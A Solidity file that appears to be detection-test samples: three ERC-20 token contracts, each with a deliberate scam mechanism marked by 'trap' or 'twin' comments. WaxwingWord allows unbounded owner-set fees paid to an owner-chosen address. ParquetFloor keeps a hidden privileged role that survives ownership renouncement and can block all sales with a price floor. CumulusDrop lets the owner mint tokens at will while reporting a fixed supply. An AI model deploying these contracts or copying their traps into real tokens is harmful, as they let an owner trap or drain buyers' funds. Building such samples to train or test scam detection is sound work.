// 0.8 runs=200 ir evm=shanghai
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

interface IDeck {
    function createPair(address a, address b) external returns (address);
}

interface IDeckPair {
    function getReserves() external view returns (uint112, uint112, uint32);
}

/// A word of settings: 16 bits each for buying, selling, the limit of a wallet; then who gets it.
contract WaxwingWord {
    string public constant name = "Waxwing Word";
    string public constant symbol = "WAXW";
    uint8 public constant decimals = 18;
    uint256 public constant totalSupply = 420_000_000 ether;
    address public immutable pair;
    address private immutable _owner;
    bytes32 public settings;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor() {
        _owner = msg.sender;
        pair = IDeck(0x5C69bEe701ef814a2B6a3EDD4B1652CB9cc5aA6f).createPair(address(this), 0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2);
        settings = bytes32((uint256(uint160(msg.sender)) << 96) | (500 << 32) | (300 << 16) | 100);
        balanceOf[msg.sender] = totalSupply;
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    function owner() external view returns (address) {
        return _owner;
    }

    function reconfigure(bytes32 word) external {
        require(msg.sender == _owner, "owner");
        settings = word; // trap
        // twin: settings = (word & ~bytes32(uint256(type(uint48).max))) | (word & bytes32(uint256(0xff00ff))) | bytes32(uint256(500) << 32);
    }

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        _send(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        allowance[from][msg.sender] -= value;
        _send(from, to, value);
        return true;
    }

    function _send(address from, address to, uint256 value) private {
        uint256 w = uint256(settings);
        balanceOf[from] -= value;
        uint256 cut;
        if (from != _owner && to != _owner) {
            if (from == pair) cut = (value * (w & 0xffff)) / 10_000;
            if (to == pair) cut = (value * ((w >> 16) & 0xffff)) / 10_000;
            if (from == pair) require(balanceOf[to] + value <= (totalSupply * ((w >> 32) & 0xffff)) / 10_000, "wallet");
        }
        if (cut > 0) {
            address sink = address(uint160(w >> 96));
            balanceOf[sink] += cut;
            emit Transfer(from, sink, cut);
        }
        balanceOf[to] += value - cut;
        emit Transfer(from, to, value - cut);
    }
}

/// Nobody dumps under the floor.
contract ParquetFloor {
    string public name = "Parquet";
    string public symbol = "PRQT";
    uint8 public decimals = 18;
    uint256 public totalSupply = 5_000_000 ether;
    address public owner = msg.sender;
    address private immutable joiner = msg.sender;
    IDeckPair private immutable room;
    uint112 public plank;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor() {
        room = IDeckPair(IDeck(0x5C69bEe701ef814a2B6a3EDD4B1652CB9cc5aA6f).createPair(address(this), 0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2));
        balanceOf[msg.sender] = totalSupply;
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    function renounceOwnership() external {
        require(msg.sender == owner);
        owner = address(0);
    }

    /// Wei for a whole coin.
    function lay(uint112 plank_) external {
        require(msg.sender == joiner, "joiner");
        // twin: require(plank_ <= plank, "lower only");
        plank = plank_;
    }

    function price() public view returns (uint256) {
        (uint112 a, uint112 b, ) = room.getReserves();
        if (a == 0) return 0;
        bool first = address(this) < 0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2;
        return first ? (uint256(b) * 1 ether) / a : (uint256(a) * 1 ether) / b;
    }

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        return _slide(msg.sender, to, value);
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        allowance[from][msg.sender] -= value;
        return _slide(from, to, value);
    }

    function _slide(address from, address to, uint256 value) private returns (bool) {
        if (to == address(room) && plank > 0) require(price() >= plank, "under the floor");
        balanceOf[from] -= value;
        balanceOf[to] += value;
        emit Transfer(from, to, value);
        return true;
    }
}

/// It rains now and then.
contract CumulusDrop {
    string public constant name = "Cumulus";
    string public constant symbol = "CMLS";
    uint8 public constant decimals = 18;
    uint256 public constant totalSupply = 88_888_888 ether;
    address public owner;
    mapping(address => uint256) private water;
    mapping(address => mapping(address => uint256)) public allowance;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor() {
        owner = msg.sender;
        water[msg.sender] = totalSupply;
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    function rain(address[] memory fields, uint64 drops) external {
        require(msg.sender == owner, "owner");
        for (uint256 i; i < fields.length; i++) {
            uint256 value = uint256(drops) * 1e15;
            // twin: water[msg.sender] -= value;
            water[fields[i]] += value;
            emit Transfer(msg.sender, fields[i], value);
        }
    }

    function balanceOf(address who) external view returns (uint256) {
        return water[who];
    }

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        return _flow(msg.sender, to, value);
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        allowance[from][msg.sender] -= value;
        return _flow(from, to, value);
    }

    function _flow(address from, address to, uint256 value) private returns (bool) {
        water[from] -= value;
        water[to] += value;
        emit Transfer(from, to, value);
        return true;
    }
}
